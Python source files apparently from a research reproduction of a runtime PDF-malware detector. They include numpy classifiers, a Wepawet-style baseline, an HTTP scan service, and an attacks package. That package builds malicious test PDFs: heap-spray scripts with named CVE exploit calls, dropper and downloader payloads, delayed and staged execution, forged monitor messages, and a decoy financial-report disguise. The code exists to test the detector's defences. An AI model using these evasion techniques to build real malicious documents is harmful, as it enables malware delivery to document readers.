    "StructuralPathDetector",
    "WepawetDetector",
    "evaluate_detector",
]
