"""From-scratch machine-learning toolkit for the baselines.

No scikit-learn in this environment, so the classifiers the baseline
papers use are implemented directly on numpy: CART decision trees,
bagged random forests, a Pegasos linear SVM, a one-class SVM
(Schölkopf linear formulation) and a Markov-chain byte model.
"""

from repro.baselines.ml.decision_tree import DecisionTreeClassifier
from repro.baselines.ml.forest import RandomForestClassifier
from repro.baselines.ml.svm import LinearSVM
from repro.baselines.ml.ocsvm import OneClassSVM
from repro.baselines.ml.markov import MarkovByteModel

__all__ = [
    "DecisionTreeClassifier",
    "LinearSVM",
    "MarkovByteModel",
    "OneClassSVM",
    "RandomForestClassifier",
]
