"""Linear SVM trained with the Pegasos sub-gradient method."""

from __future__ import annotations

import numpy as np


class LinearSVM:
    """Binary linear SVM; labels are {0, 1} at the API boundary."""

    def __init__(
        self,
        lam: float = 1e-3,
        epochs: int = 40,
        random_state: int = 0,
    ) -> None:
        self.lam = lam
        self.epochs = epochs
        self.random_state = random_state
        self.w: np.ndarray | None = None
        self.b: float = 0.0
        self._mean: np.ndarray | None = None
        self._std: np.ndarray | None = None

    def fit(self, X: np.ndarray, y: np.ndarray) -> "LinearSVM":
        X = np.asarray(X, dtype=float)
        y_signed = np.where(np.asarray(y, dtype=float) > 0.5, 1.0, -1.0)
        self._mean = X.mean(axis=0)
        self._std = X.std(axis=0)
        self._std[self._std == 0] = 1.0
        Xs = (X - self._mean) / self._std

        n_samples, n_features = Xs.shape
        rng = np.random.default_rng(self.random_state)
        w = np.zeros(n_features)
        b = 0.0
        t = 0
        for _ in range(self.epochs):
            order = rng.permutation(n_samples)
            for index in order:
                t += 1
                eta = 1.0 / (self.lam * t)
                margin = y_signed[index] * (Xs[index] @ w + b)
                w *= 1.0 - eta * self.lam
                if margin < 1.0:
                    w += eta * y_signed[index] * Xs[index]
                    b += eta * y_signed[index]
        self.w = w
        self.b = b
        return self

    def decision_function(self, X: np.ndarray) -> np.ndarray:
        if self.w is None or self._mean is None or self._std is None:
            raise RuntimeError("fit() first")
        Xs = (np.asarray(X, dtype=float) - self._mean) / self._std
        return Xs @ self.w + self.b

    def predict(self, X: np.ndarray) -> np.ndarray:
        return (self.decision_function(X) >= 0.0).astype(int)
