"""CART decision tree (gini impurity, binary splits on thresholds)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

import numpy as np


@dataclass
class _Node:
    feature: int = -1
    threshold: float = 0.0
    left: Optional["_Node"] = None
    right: Optional["_Node"] = None
    prediction: float = 0.0
    is_leaf: bool = False


def _gini(labels: np.ndarray) -> float:
    if labels.size == 0:
        return 0.0
    p = labels.mean()
    return 2.0 * p * (1.0 - p)


class DecisionTreeClassifier:
    """Binary CART classifier.

    ``max_features`` (when set) samples a feature subset per split —
    that is what the random forest passes in.
    """

    def __init__(
        self,
        max_depth: int = 12,
        min_samples_split: int = 4,
        max_features: Optional[int] = None,
        random_state: int = 0,
    ) -> None:
        self.max_depth = max_depth
        self.min_samples_split = min_samples_split
        self.max_features = max_features
        self.random_state = random_state
        self._root: Optional[_Node] = None
        self._rng = np.random.default_rng(random_state)

    def fit(self, X: np.ndarray, y: np.ndarray) -> "DecisionTreeClassifier":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y, dtype=float)
        if X.ndim != 2 or X.shape[0] != y.shape[0]:
            raise ValueError("X must be 2-D and aligned with y")
        self._root = self._build(X, y, depth=0)
        return self

    def _build(self, X: np.ndarray, y: np.ndarray, depth: int) -> _Node:
        node = _Node(prediction=float(y.mean()) if y.size else 0.0)
        if (
            depth >= self.max_depth
            or y.size < self.min_samples_split
            or _gini(y) == 0.0
        ):
            node.is_leaf = True
            return node

        n_features = X.shape[1]
        if self.max_features is not None and self.max_features < n_features:
            candidates = self._rng.choice(n_features, self.max_features, replace=False)
        else:
            candidates = np.arange(n_features)

        best_gain = 1e-12
        best: Optional[tuple] = None
        parent_impurity = _gini(y)
        for feature in candidates:
            values = X[:, feature]
            thresholds = np.unique(values)
            if thresholds.size > 32:
                thresholds = np.quantile(values, np.linspace(0.05, 0.95, 16))
                thresholds = np.unique(thresholds)
            for threshold in thresholds:
                mask = values <= threshold
                n_left = int(mask.sum())
                if n_left == 0 or n_left == y.size:
                    continue
                impurity = (
                    n_left * _gini(y[mask]) + (y.size - n_left) * _gini(y[~mask])
                ) / y.size
                gain = parent_impurity - impurity
                if gain > best_gain:
                    best_gain = gain
                    best = (int(feature), float(threshold), mask)
        if best is None:
            node.is_leaf = True
            return node
        feature, threshold, mask = best
        node.feature = feature
        node.threshold = threshold
        node.left = self._build(X[mask], y[mask], depth + 1)
        node.right = self._build(X[~mask], y[~mask], depth + 1)
        return node

    def predict_proba(self, X: np.ndarray) -> np.ndarray:
        if self._root is None:
            raise RuntimeError("fit() first")
        X = np.asarray(X, dtype=float)
        return np.array([self._score_row(row) for row in X])

    def _score_row(self, row: np.ndarray) -> float:
        node = self._root
        assert node is not None
        while not node.is_leaf:
            node = node.left if row[node.feature] <= node.threshold else node.right
            assert node is not None
        return node.prediction

    def predict(self, X: np.ndarray) -> np.ndarray:
        return (self.predict_proba(X) >= 0.5).astype(int)
