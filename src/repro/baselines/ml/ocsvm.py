"""One-class SVM (linear ν-formulation, deterministic solution).

PJScan [7] trains a one-class SVM on *malicious* lexical vectors and
flags test points inside the learned region.  For the linear kernel on
standardised data the ν-formulation ``min ½‖w‖² − ρ + (1/νn) Σ max(0,
ρ − ⟨w, xᵢ⟩)`` is solved by the scaled class mean direction with ρ at
the ν-quantile of projections — which we compute directly instead of
running a fragile sub-gradient loop.  Points with ``⟨w, x⟩ ≥ ρ`` are
members of the trained class.
"""

from __future__ import annotations

import numpy as np


class OneClassSVM:
    def __init__(self, nu: float = 0.2, random_state: int = 0) -> None:
        if not 0.0 < nu <= 1.0:
            raise ValueError("nu must be in (0, 1]")
        self.nu = nu
        self.random_state = random_state  # kept for API parity
        self.w: np.ndarray | None = None
        self.rho: float = 0.0
        self._mean: np.ndarray | None = None
        self._std: np.ndarray | None = None

    def fit(self, X: np.ndarray) -> "OneClassSVM":
        X = np.asarray(X, dtype=float)
        if X.ndim != 2 or X.shape[0] == 0:
            raise ValueError("X must be a non-empty 2-D array")
        self._mean = X.mean(axis=0)
        self._std = X.std(axis=0)
        self._std[self._std == 0] = 1.0
        Xs = (X - self._mean) / self._std

        # Direction of the training mass.  On standardised one-class
        # data the mean is ~0; fall back to the dominant principal axis.
        center = Xs.mean(axis=0)
        if np.linalg.norm(center) < 1e-9:
            _u, _s, vt = np.linalg.svd(Xs, full_matrices=False)
            direction = vt[0]
        else:
            direction = center
        self.w = direction / (np.linalg.norm(direction) + 1e-12)

        projections = Xs @ self.w
        # ν controls the training outlier fraction: ρ sits at the
        # ν-quantile so ~(1-ν) of training points are inside.
        self.rho = float(np.quantile(projections, self.nu))
        return self

    def decision_function(self, X: np.ndarray) -> np.ndarray:
        """Positive = inside the trained class."""
        if self.w is None or self._mean is None or self._std is None:
            raise RuntimeError("fit() first")
        Xs = (np.asarray(X, dtype=float) - self._mean) / self._std
        return Xs @ self.w - self.rho

    def predict(self, X: np.ndarray) -> np.ndarray:
        return (self.decision_function(X) >= 0.0).astype(int)
