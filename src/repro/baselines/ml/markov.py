"""Markov byte-transition model (the core of the n-gram baseline [17])."""

from __future__ import annotations

import math
from typing import Iterable

import numpy as np


class MarkovByteModel:
    """First-order Markov chain over bytes with Laplace smoothing.

    ``score(data)`` returns the average negative log-likelihood per
    transition — higher means less like the training distribution.
    """

    def __init__(self, bucket_bits: int = 4, alpha: float = 0.5) -> None:
        #: Bytes are bucketed (default 16 buckets) to keep the chain small.
        self.bucket_bits = bucket_bits
        self.alpha = alpha
        size = 1 << bucket_bits
        self._counts = np.full((size, size), alpha, dtype=float)
        self._log_probs: np.ndarray | None = None

    def _bucketize(self, data: bytes) -> np.ndarray:
        arr = np.frombuffer(data, dtype=np.uint8)
        return arr >> (8 - self.bucket_bits)

    def update(self, data: bytes) -> None:
        if len(data) < 2:
            return
        buckets = self._bucketize(data)
        np.add.at(self._counts, (buckets[:-1], buckets[1:]), 1.0)
        self._log_probs = None

    def fit(self, documents: Iterable[bytes]) -> "MarkovByteModel":
        for data in documents:
            self.update(data)
        return self

    def _ensure_probs(self) -> np.ndarray:
        if self._log_probs is None:
            rows = self._counts.sum(axis=1, keepdims=True)
            self._log_probs = np.log(self._counts / rows)
        return self._log_probs

    def score(self, data: bytes) -> float:
        """Average negative log-likelihood per byte transition."""
        if len(data) < 2:
            return 0.0
        log_probs = self._ensure_probs()
        buckets = self._bucketize(data)
        values = log_probs[buckets[:-1], buckets[1:]]
        return float(-values.mean())

    def perplexity(self, data: bytes) -> float:
        return math.exp(self.score(data))
