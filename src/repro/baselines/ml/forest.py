"""Bagged random forest over the CART trees."""

from __future__ import annotations

from typing import List

import numpy as np

from repro.baselines.ml.decision_tree import DecisionTreeClassifier


class RandomForestClassifier:
    """Bootstrap-aggregated CART ensemble with √d feature sampling."""

    def __init__(
        self,
        n_estimators: int = 25,
        max_depth: int = 10,
        random_state: int = 0,
    ) -> None:
        self.n_estimators = n_estimators
        self.max_depth = max_depth
        self.random_state = random_state
        self._trees: List[DecisionTreeClassifier] = []

    def fit(self, X: np.ndarray, y: np.ndarray) -> "RandomForestClassifier":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y, dtype=float)
        n_samples, n_features = X.shape
        max_features = max(1, int(np.sqrt(n_features)))
        rng = np.random.default_rng(self.random_state)
        self._trees = []
        for index in range(self.n_estimators):
            rows = rng.integers(0, n_samples, size=n_samples)
            tree = DecisionTreeClassifier(
                max_depth=self.max_depth,
                max_features=max_features,
                random_state=self.random_state + index,
            )
            tree.fit(X[rows], y[rows])
            self._trees.append(tree)
        return self

    def predict_proba(self, X: np.ndarray) -> np.ndarray:
        if not self._trees:
            raise RuntimeError("fit() first")
        votes = np.stack([tree.predict_proba(X) for tree in self._trees])
        return votes.mean(axis=0)

    def predict(self, X: np.ndarray) -> np.ndarray:
        return (self.predict_proba(X) >= 0.5).astype(int)
