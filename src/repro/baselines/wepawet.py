"""Wepawet/JSAND-style baseline (Cova et al. [14], [18]).

Statistical + lexical anomaly features over statically extracted
JavaScript, trained on benign scripts only (Gaussian per-feature
model; a sample is anomalous when enough features deviate).  Table IX
reports 68 % TP for Wepawet on PDF malware — it misses whatever its
static extraction cannot see, which our corpus reproduces.
"""

from __future__ import annotations

import math
from typing import List, Sequence

import numpy as np

from repro.baselines.base import BaselineDetector
from repro.baselines.features import extract_js_sources, parse_sample
from repro.corpus.dataset import Sample


def _script_features(sources: List[str]) -> np.ndarray:
    code = "\n".join(sources)
    length = max(1, len(code))
    longest_literal = 0
    in_string = False
    run = 0
    for ch in code:
        if ch in "'\"":
            in_string = not in_string
            longest_literal = max(longest_literal, run)
            run = 0
        elif in_string:
            run += 1
    digits = sum(ch.isdigit() for ch in code)
    entropy = _shannon(code)
    return np.array(
        [
            float(len(code)),
            float(longest_literal),
            float(code.count("unescape")),
            float(code.count("eval")),
            float(code.count("fromCharCode")),
            float(code.count("while") + code.count("for")),
            float(code.count("+=")),
            digits / length,
            entropy,
            float(code.count("%u")),
        ]
    )


def _shannon(text: str) -> float:
    if not text:
        return 0.0
    counts: dict = {}
    for ch in text:
        counts[ch] = counts.get(ch, 0) + 1
    total = len(text)
    return -sum((c / total) * math.log2(c / total) for c in counts.values())


class WepawetDetector(BaselineDetector):
    name = "Wepawet [18]"

    def __init__(self, z_threshold: float = 3.5, min_deviations: int = 3) -> None:
        self.z_threshold = z_threshold
        self.min_deviations = min_deviations
        self._mean: np.ndarray | None = None
        self._std: np.ndarray | None = None

    def _vector(self, sample: Sample) -> np.ndarray | None:
        document = parse_sample(sample)
        if document is None:
            return None
        sources = extract_js_sources(document)
        if not sources:
            return None
        return _script_features(sources)

    def fit(self, samples: Sequence[Sample]) -> "WepawetDetector":
        vectors = []
        for sample in samples:
            if sample.malicious:
                continue
            vector = self._vector(sample)
            if vector is not None:
                vectors.append(vector)
        if not vectors:
            raise ValueError("Wepawet baseline needs benign JS for training")
        X = np.stack(vectors)
        self._mean = X.mean(axis=0)
        self._std = X.std(axis=0)
        self._std[self._std == 0] = 1.0
        return self

    def predict(self, sample: Sample) -> bool:
        if self._mean is None or self._std is None:
            raise RuntimeError("fit() first")
        vector = self._vector(sample)
        if vector is None:
            return False
        z_scores = np.abs((vector - self._mean) / self._std)
        return int((z_scores > self.z_threshold).sum()) >= self.min_deviations
