"""Runtime patching attack (§IV-B).

The attacker splits malicious JavaScript across two scripts; the first
locates the second in memory and patches out its context monitoring
code so it runs unmonitored.  The countermeasure: the original script
is stored *encrypted*, with the decryptor living inside the monitoring
prologue — cutting out the monitoring code leaves only ciphertext,
which cannot execute.

We model a *successful* patch (the strongest attacker): the monitoring
wrapper of the second script is surgically removed from the
instrumented document, leaving the raw payload string behind.  The
result demonstrates the defence: the orphaned ciphertext is not valid
JavaScript and the attack chain dies.
"""

from __future__ import annotations

import re

from repro.pdf.document import PDFDocument


_EVAL_PAYLOAD_RE = re.compile(r"eval\((\w+dec)\((\".*?\")\)\);", re.DOTALL)


def patch_out_monitoring(instrumented: bytes) -> bytes:
    """Simulate the attacker's in-memory patch on a protected document.

    Every instrumented action's code is replaced by just the encrypted
    payload literal (monitoring prologue, decryptor and epilogue
    stripped) — what the attacker hopes is "the original script".
    """
    document = PDFDocument.from_bytes(instrumented)
    for action in document.iter_javascript_actions():
        code = document.get_javascript_code(action)
        match = _EVAL_PAYLOAD_RE.search(code)
        if match is None:
            continue
        # The attacker keeps only the string that (it believes) holds
        # the original script, executing it directly.
        document.set_javascript_code(action, f"eval({match.group(2)});")
    return document.to_bytes()


def strip_encryption_keep_monitoring(instrumented: bytes) -> bytes:
    """Control arm: keep the monitoring code intact (no patch)."""
    return instrumented
