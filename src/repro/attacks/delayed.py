"""Delayed-execution attack (§IV-B).

The malicious code is scheduled through ``app.setTimeOut()`` /
``app.setInterval()`` so it runs after the opening script's monitored
context has closed.  The countermeasure instruments both methods: the
generated wrapper prepends/appends enter/leave messages to the
scheduled code string, so the delayed execution is monitored too.
"""

from __future__ import annotations

import random

from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


def delayed_attack_document(
    seed: int = 77,
    spray_mb: int = 150,
    delay_ms: int = 3000,
    use_interval: bool = False,
) -> bytes:
    """Opening script only schedules; the bomb goes off ``delay_ms`` later."""
    rng = random.Random(seed)
    bomb = js.spray_script(
        spray_mb,
        Payload.downloader(),
        rng=rng,
        exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, rng),
    )
    bomb_literal = '"' + js.escape_for_js(bomb) + '"'
    scheduler = "app.setInterval" if use_interval else "app.setTimeOut"
    stage1 = f"var t = {scheduler}({bomb_literal}, {delay_ms});"

    builder = DocumentBuilder()
    builder.add_page("delayed")
    builder.add_javascript(stage1, trigger="OpenAction")
    return builder.to_bytes()
