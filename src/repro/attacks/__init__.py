"""The §IV adversaries: advanced attacks against the system itself.

Each module builds attack documents and exposes helpers the security
analysis tests/benchmarks use to show the countermeasure holds:

* :mod:`repro.attacks.mimicry` — fake SOAP messages with scraped/guessed
  keys (zero tolerance defeats them) and structural mimicry against the
  static baselines (runtime features defeat it);
* :mod:`repro.attacks.patching` — runtime patching of the second
  script's monitoring code (script encryption defeats it);
* :mod:`repro.attacks.staged` — multi-stage script installation via the
  Table IV methods (the generated wrappers re-instrument stage 2);
* :mod:`repro.attacks.delayed` — ``app.setTimeOut``/``setInterval``
  delay evasion (the same wrappers cover both).
"""

from repro.attacks.mimicry import (
    fake_message_attack_document,
    structural_mimicry_document,
)
from repro.attacks.patching import patch_out_monitoring
from repro.attacks.staged import staged_attack_document
from repro.attacks.delayed import delayed_attack_document

__all__ = [
    "delayed_attack_document",
    "fake_message_attack_document",
    "patch_out_monitoring",
    "staged_attack_document",
    "structural_mimicry_document",
]
