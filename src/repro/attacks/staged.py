"""Staged attack (§IV-B, Figure 5 + Table IV).

Stage 1 looks harmless: it only *installs* stage 2 at runtime through
one of the Table IV methods.  Stage 2 — which carries the spray and the
exploit — fires later on a user event (close, page open, bookmark).
Without the countermeasure, stage 2 would run outside any monitored JS
context; the generated wrappers re-instrument the dynamically added
script so its operations stay attributed.
"""

from __future__ import annotations

import random

from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload

#: Table IV installation methods and the event that triggers stage 2.
INSTALL_METHODS = {
    "addScript": ('this.addScript("upd", __STAGE2__);', "Open"),
    "setAction": ('this.setAction("WillClose", __STAGE2__);', "WillClose"),
    "setPageAction": ('this.setPageAction(0, "Open", __STAGE2__);', "Open"),
    "bookmark": ("this.bookmarkRoot.setAction(__STAGE2__);", "bookmark"),
}


def stage2_code(seed: int = 55, spray_mb: int = 150) -> str:
    rng = random.Random(seed)
    return js.spray_script(
        spray_mb,
        Payload.dropper(),
        rng=rng,
        exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
    )


def staged_attack_document(
    method: str = "setAction", seed: int = 55, spray_mb: int = 150
) -> bytes:
    """Build the two-stage document; stage 2 installed via ``method``."""
    if method not in INSTALL_METHODS:
        raise ValueError(f"unknown install method {method!r}")
    install_template, _event = INSTALL_METHODS[method]
    stage2 = stage2_code(seed, spray_mb)
    stage2_literal = '"' + js.escape_for_js(stage2) + '"'
    stage1 = install_template.replace("__STAGE2__", stage2_literal)

    builder = DocumentBuilder()
    builder.add_page("nothing to see here")
    builder.add_javascript(stage1, trigger="OpenAction")
    return builder.to_bytes()


def trigger_event_for(method: str) -> str:
    """Which reader event fires stage 2 for ``method``."""
    return INSTALL_METHODS[method][1]
