"""Mimicry attacks (§IV-B).

Two flavours:

1. **Message mimicry** against *our* system: the attacker script sends
   its own "leave" SOAP message, hoping the detector believes the JS
   context ended before the infection operations run.  It cannot know
   the real key (random, per-document, structure-randomised, shadowed
   by planted fakes), so it either guesses or scrapes a *fake* key —
   and the zero-tolerance rule turns the very attempt into a
   conviction.

2. **Structural mimicry** against the static baselines (Maiorca et
   al. [8]): a malicious document reshaped to look structurally benign
   (many inert objects → low JS-chain ratio, no obfuscation, benign
   metadata).  Static methods lose it; the runtime features do not.
"""

from __future__ import annotations

import random
from typing import Optional

from repro.corpus import js_snippets as js
from repro.core.monitor_code import SOAP_URL
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


def fake_message_attack_document(
    seed: int = 99,
    guessed_key: Optional[str] = None,
    spray_mb: int = 150,
) -> bytes:
    """Malicious doc that forges a premature "leave" message.

    ``guessed_key`` defaults to a plausible-looking but wrong key (what
    memory scraping would recover: one of the planted fakes).
    """
    rng = random.Random(seed)
    key = guessed_key or (
        "".join(rng.choice("0123456789abcdef") for _ in range(24))
        + ":"
        + "".join(rng.choice("0123456789abcdef") for _ in range(24))
    )
    forged_leave = (
        f'SOAP.request({{cURL: "{SOAP_URL}", '
        f'oRequest: {{ctx: "leave", key: "{key}", seq: 1}}}});'
    )
    attack = "\n".join(
        [
            forged_leave,  # try to close the context before misbehaving
            js.spray_script(
                spray_mb,
                Payload.dropper(),
                rng=rng,
                exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
            ),
        ]
    )
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(attack)
    return builder.to_bytes()


def replay_epilogue_attack_document(seed: int = 100, spray_mb: int = 150) -> bytes:
    """Variant: the attacker searches for "our episode code" and calls
    the wrapped SOAP endpoint with a structurally perfect but unkeyed
    message before carrying out malicious operations."""
    rng = random.Random(seed)
    forged = (
        f'SOAP.request({{cURL: "{SOAP_URL}", '
        'oRequest: {ctx: "leave", seq: 1}});'
    )
    attack = forged + "\n" + js.spray_script(
        spray_mb,
        Payload.dropper(),
        rng=rng,
        exploit_call=js.exploit_call_for(CVE.MEDIA_NEW_PLAYER, rng),
    )
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(attack)
    return builder.to_bytes()


def structural_mimicry_document(
    seed: int = 101,
    spray_mb: int = 140,
    benign_padding: int = 80,
) -> bytes:
    """Maiorca-style mimicry: structurally indistinguishable from a
    benign report, but the script still sprays and exploits."""
    rng = random.Random(seed)
    builder = DocumentBuilder()
    for page in range(6):
        builder.add_page(f"Quarterly results, page {page + 1}", extra_objects=2)
    builder.pad_with_objects(benign_padding, payload=b"chart data ")
    builder.set_info(
        Title="Quarterly Report FY2013",
        Author="Finance Team",
        Producer="Office Converter 11.0",
    )
    attack = js.spray_script(
        spray_mb,
        Payload.downloader(),
        rng=rng,
        exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
    )
    builder.add_javascript(attack, trigger="OpenAction")
    return builder.to_bytes()
