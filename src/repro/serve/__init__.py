"""Scan service daemon (``repro.serve``).

Turns the one-shot ``repro scan`` pipeline into a deployable detector:
a long-running HTTP service with admission control in front of the
``repro.batch`` worker pool, reusing the SHA-256 verdict cache, the
``repro.limits`` resource budgets and the ``repro.obs`` telemetry.

Quickstart::

    from repro.serve import AdmissionConfig, ScanService, start_server

    service = ScanService(jobs=4, admission=AdmissionConfig(max_in_flight=4))
    with start_server(service, port=8291) as handle:
        print("listening on", handle.url)
        ...

CLI: ``repro serve --port 8291 --jobs 4``.  See ``docs/SERVICE.md`` for
endpoints, admission tuning and shedding semantics.
"""

from repro.serve.admission import (
    SHED_ASYNC_BACKLOG,
    SHED_DEADLINE,
    SHED_DRAINING,
    SHED_QUEUE_FULL,
    AdmissionConfig,
    AdmissionController,
    RequestShed,
    Ticket,
)
from repro.serve.app import ScanService, ServeResult
from repro.serve.http import (
    MAX_BODY_BYTES,
    ScanHTTPServer,
    ScanRequestHandler,
    ServerHandle,
    start_server,
)
from repro.serve.jobs import (
    JOB_DONE,
    JOB_QUEUED,
    JOB_RUNNING,
    JOB_SHED,
    Job,
    JobRegistry,
)

__all__ = [
    "AdmissionConfig",
    "AdmissionController",
    "JOB_DONE",
    "JOB_QUEUED",
    "JOB_RUNNING",
    "JOB_SHED",
    "Job",
    "JobRegistry",
    "MAX_BODY_BYTES",
    "RequestShed",
    "SHED_ASYNC_BACKLOG",
    "SHED_DEADLINE",
    "SHED_DRAINING",
    "SHED_QUEUE_FULL",
    "ScanHTTPServer",
    "ScanRequestHandler",
    "ScanService",
    "ServeResult",
    "ServerHandle",
    "Ticket",
    "start_server",
]
