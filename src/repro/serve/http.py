"""HTTP front-end for the scan service (stdlib only).

A deliberately thin layer over :class:`~repro.serve.app.ScanService`:
``ThreadingHTTPServer`` gives one handler thread per connection, the
handler decodes the request into a service call and encodes the
:class:`~repro.serve.app.ServeResult` back as JSON.  All throttling
lives in the admission controller — the HTTP layer's only defence is a
request-body size cap (413) so a hostile upload cannot balloon memory
before admission even sees it.

Endpoints
---------
``POST /scan``
    Body = raw PDF bytes.  Query: ``name=<label>``,
    ``limits=<k=v,...>`` (same grammar as ``repro scan --limits``),
    ``mode=async`` to get ``202 {"job": ...}`` instead of blocking,
    ``nocache=1`` to bypass the verdict cache (cache hits answer with
    ``"report": null`` — opt out when the full OpenReport is needed).
``POST /batch``
    JSON body ``{"items": [{"name": ..., "data_b64": ...}, ...],
    "limits": "..."}``; multi-status response.
``GET /healthz``
    200 while serving, 503 while draining.
``GET /metrics``
    Admission/job/cache gauges + obs counters as JSON;
    ``?format=prometheus`` returns text exposition format 0.0.4
    instead (scrape-ready ``_bucket``/``_sum``/``_count`` histograms).
``GET /debug/slow``
    Slow-scan exemplars retained by the service's ring buffer (full
    span trees + phase profiles for scans over the latency threshold
    or rolling p99).
``GET /jobs/<id>``
    Async job state / result.

Shed responses (429/503) carry a ``Retry-After`` header.
"""

from __future__ import annotations

import base64
import binascii
import json
import math
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Dict, Optional, Tuple
from urllib.parse import parse_qs, urlsplit

from repro.serve.app import ScanService, ServeResult

#: Largest request body accepted (pre-admission defence; PDFs the
#: pipeline is willing to scan are far smaller).
MAX_BODY_BYTES = 64 * 1024 * 1024


class ScanRequestHandler(BaseHTTPRequestHandler):
    """Routes HTTP requests into the owning server's :class:`ScanService`."""

    server_version = "repro-serve/1.0"
    protocol_version = "HTTP/1.1"

    # -- plumbing ----------------------------------------------------------

    @property
    def service(self) -> ScanService:
        return self.server.service  # type: ignore[attr-defined]

    def log_message(self, format: str, *args: Any) -> None:
        # Access logging goes through obs metrics, not stderr noise.
        pass

    def _send(self, result: ServeResult) -> None:
        body = json.dumps(result.payload).encode("utf-8")
        self.send_response(result.status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        if result.retry_after is not None:
            self.send_header("Retry-After", str(math.ceil(result.retry_after)))
        self.end_headers()
        self.wfile.write(body)

    def _send_text(self, text: str, content_type: str, status: int = 200) -> None:
        body = text.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _read_body(self) -> Optional[bytes]:
        """Read the request body; None (413 already sent) when too big."""
        try:
            length = int(self.headers.get("Content-Length", "0"))
        except ValueError:
            length = 0
        if length < 0:
            length = 0
        if length > self.max_body_bytes():
            self._send(ServeResult(413, {
                "error": f"request body exceeds {self.max_body_bytes()} bytes",
            }))
            return None
        return self.rfile.read(length) if length else b""

    def max_body_bytes(self) -> int:
        return getattr(self.server, "max_body_bytes", MAX_BODY_BYTES)

    def _route(self) -> Tuple[str, Dict[str, str]]:
        parts = urlsplit(self.path)
        query = {
            key: values[-1]
            for key, values in parse_qs(parts.query).items()
        }
        return parts.path.rstrip("/") or "/", query

    # -- verbs -------------------------------------------------------------

    def do_POST(self) -> None:  # noqa: N802 (stdlib handler API)
        path, query = self._route()
        body = self._read_body()
        if body is None:
            return
        if path == "/scan":
            name = query.get("name", "document.pdf")
            limits = query.get("limits")
            use_cache = query.get("nocache", "") not in ("1", "true", "yes")
            if query.get("mode") == "async":
                self._send(self.service.handle_async_submit(
                    body, name, limits, use_cache
                ))
            else:
                self._send(self.service.handle_scan(
                    body, name, limits, use_cache
                ))
        elif path == "/batch":
            self._send(self._handle_batch(body))
        else:
            self._send(ServeResult(404, {"error": f"no such endpoint {path}"}))

    def do_GET(self) -> None:  # noqa: N802
        path, query = self._route()
        if path == "/healthz":
            self._send(self.service.health())
        elif path == "/metrics":
            if query.get("format") == "prometheus":
                self._send_text(
                    self.service.metrics_prometheus(),
                    "text/plain; version=0.0.4; charset=utf-8",
                )
            else:
                self._send(self.service.metrics())
        elif path == "/debug/slow":
            self._send(self.service.debug_slow())
        elif path.startswith("/jobs/"):
            self._send(self.service.handle_job_status(path[len("/jobs/"):]))
        else:
            self._send(ServeResult(404, {"error": f"no such endpoint {path}"}))

    # -- batch decoding ----------------------------------------------------

    def _handle_batch(self, body: bytes) -> ServeResult:
        try:
            payload = json.loads(body.decode("utf-8"))
        except (UnicodeDecodeError, ValueError) as error:
            return ServeResult(400, {"error": f"bad JSON body: {error}"})
        raw_items = payload.get("items") if isinstance(payload, dict) else None
        if not isinstance(raw_items, list) or not raw_items:
            return ServeResult(
                400, {"error": "body must be {\"items\": [{name, data_b64}, ...]}"}
            )
        items = []
        for position, entry in enumerate(raw_items):
            if not isinstance(entry, dict) or "data_b64" not in entry:
                return ServeResult(
                    400, {"error": f"items[{position}] missing data_b64"}
                )
            try:
                data = base64.b64decode(entry["data_b64"], validate=True)
            except (binascii.Error, ValueError) as error:
                return ServeResult(
                    400, {"error": f"items[{position}] bad base64: {error}"}
                )
            items.append((str(entry.get("name", f"item-{position}.pdf")), data))
        limits = payload.get("limits") if isinstance(payload, dict) else None
        return self.service.handle_batch(items, limits)


class ScanHTTPServer(ThreadingHTTPServer):
    """One scan service behind a threading HTTP listener."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(
        self,
        address: Tuple[str, int],
        service: ScanService,
        max_body_bytes: int = MAX_BODY_BYTES,
    ) -> None:
        super().__init__(address, ScanRequestHandler)
        self.service = service
        self.max_body_bytes = max_body_bytes

    @property
    def port(self) -> int:
        return self.server_address[1]

    @property
    def url(self) -> str:
        host, port = self.server_address[0], self.server_address[1]
        return f"http://{host}:{port}"


class ServerHandle:
    """A server + its background accept thread (tests and the CLI).

    ``with start_server(service) as handle: ...`` boots on an ephemeral
    port and guarantees drain + socket teardown on exit.
    """

    def __init__(self, server: ScanHTTPServer, thread: threading.Thread) -> None:
        self.server = server
        self.thread = thread

    @property
    def url(self) -> str:
        return self.server.url

    @property
    def service(self) -> ScanService:
        return self.server.service

    def stop(self, drain_timeout: Optional[float] = 30.0) -> bool:
        """Stop accepting, drain in-flight work, close the socket."""
        self.server.shutdown()
        self.thread.join(timeout=10.0)
        idle = self.service.drain(drain_timeout)
        self.server.server_close()
        return idle

    def __enter__(self) -> "ServerHandle":
        return self

    def __exit__(self, *exc_info: Any) -> None:
        self.stop()


def start_server(
    service: ScanService,
    host: str = "127.0.0.1",
    port: int = 0,
    max_body_bytes: int = MAX_BODY_BYTES,
) -> ServerHandle:
    """Boot ``service`` on ``host:port`` (0 = ephemeral) in a thread."""
    service.start()
    server = ScanHTTPServer((host, port), service, max_body_bytes=max_body_bytes)
    thread = threading.Thread(
        target=server.serve_forever, name="repro-serve-accept", daemon=True
    )
    thread.start()
    return ServerHandle(server, thread)
