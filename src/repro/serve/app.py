"""The scan service core (``repro.serve``): transport-free request paths.

:class:`ScanService` is everything the daemon does *except* HTTP: it
owns a persistent :class:`~repro.batch.scanner.BatchScanner` worker
